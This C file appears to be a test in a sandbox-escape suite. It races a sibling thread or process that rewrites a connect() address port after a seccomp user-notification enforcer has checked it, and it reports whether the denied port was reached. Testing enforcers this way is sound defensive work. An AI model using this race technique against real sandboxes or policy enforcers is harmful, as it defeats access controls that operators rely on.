/* The address of a connect is rewritten between the check and the use.
 *
 * As with exec: an enforcer that reads the address and CONTINUEs has checked a copy of what the kernel reads again
 * (seccomp_unotify(2)). The port's two bytes are flipped; getpeername(2) tells which one the kernel saw.
 *
 *   net-connect-race MODE ALLOWED_PORT DENIED_PORT ROUNDS [SECONDS]
 * thread     a sibling thread writes                 udp      the same, for a datagram socket
 * shared     another process writes, in MAP_SHARED   procmem  through /proc/PID/mem    vmwrite  through process_vm_writev
 * nodump     as shared, by a caller that is not dumpable      nonblock  as thread, on a non-blocking socket */
#include "attack.h"
#include <arpa/inet.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/uio.h>

static _Atomic int *round_now, *flipping;
static const char *mode;
static struct sockaddr_in *to;
static uint16_t good, bad;
static int memory = -1;
static pid_t owner;
static int is(const char *m) { return !strcmp(mode, m); }

static void put(uint16_t port) {
    ssize_t done = 0;
    if (is("procmem")) done = pwrite(memory, &port, 2, (off_t)(uintptr_t)&to->sin_port);
    else if (is("vmwrite")) {
        struct iovec local = { &port, 2 }, remote = { &to->sin_port, 2 };
        done = process_vm_writev(owner, &local, 1, &remote, 1, 0);
    } else *(volatile uint16_t *)&to->sin_port = port;
    if (done < 0) _exit(REFUSED);
}

static void *flipper(void *unused) {
    (void)unused;
    for (int seen = 0;;) {
        int round = *round_now;
        if (round == seen) continue;
        seen = round;
        if (round % 2 == 0) { *flipping = round; spin_ns(moment_of(round) / 8); put(bad); continue; }
        for (unsigned n = (unsigned)round; *round_now == round; n = n * 1103515245 + 12345) {
            put(bad);
            *flipping = round;
            spin_ns(n >> 8 & 2047);
            put(good);
            spin_ns(n >> 12 & 2047);
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 5) skip("usage: MODE ALLOWED_PORT DENIED_PORT ROUNDS [SECONDS]");
    mode = argv[1], good = htons((uint16_t)atoi(argv[2])), bad = htons((uint16_t)atoi(argv[3]));
    int rounds = atoi(argv[4]), seconds = argc > 5 ? atoi(argv[5]) : 2, connected = 0, refused = 0, type = is("udp") ? SOCK_DGRAM : SOCK_STREAM;
    bound((unsigned)seconds + 2);
    int64_t until = now_ns() + seconds * 1000000000LL;
    int process = is("shared") || is("nodump") || is("procmem") || is("vmwrite");
    static struct sockaddr_in own;
    to = is("shared") || is("nodump") ? shared_page(4096) : &own;
    round_now = shared_page(4096), flipping = round_now + 64;
    *to = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = good, .sin_addr = { htonl(INADDR_LOOPBACK) } };
    owner = getpid();
    pthread_t thread;
    if (is("procmem")) {
        memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC); /* of this process, and inherited */
        if (memory < 0) held("/proc/self/mem: %s", strerror(errno));
    }
    if (!process) pthread_create(&thread, NULL, flipper, NULL);
    else if (!fork_bounded()) flipper(NULL);
    if (is("nodump")) prctl(PR_SET_DUMPABLE, 0);
    int round = 1;
    for (; round <= rounds && now_ns() < until; round++) {
        struct sockaddr_in peer = { 0 };
        socklen_t length = sizeof peer;
        struct linger hard = { 1, 0 };
        int fd = socket(AF_INET, type | SOCK_CLOEXEC | (is("nonblock") ? SOCK_NONBLOCK : 0), 0);
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
        *(volatile uint16_t *)&to->sin_port = good;
        *round_now = round;
        for (int64_t late = now_ns() + 1000000; *flipping != round && now_ns() < late;) {}
        int result = connect(fd, (void *)to, sizeof *to);
        if (result && errno != EINPROGRESS) refused++; else connected++;
        *round_now = -round;
        if (!getpeername(fd, (void *)&peer, &length) && peer.sin_port == bad) escaped("%s: round %d: connected to the denied port", mode, round);
        close(fd);
    }
    held("%s: %d rounds, connected %d, refused %d%s", mode, round - 1, connected, refused, connected ? "" : " (vacuous: nothing was ever allowed)");
}
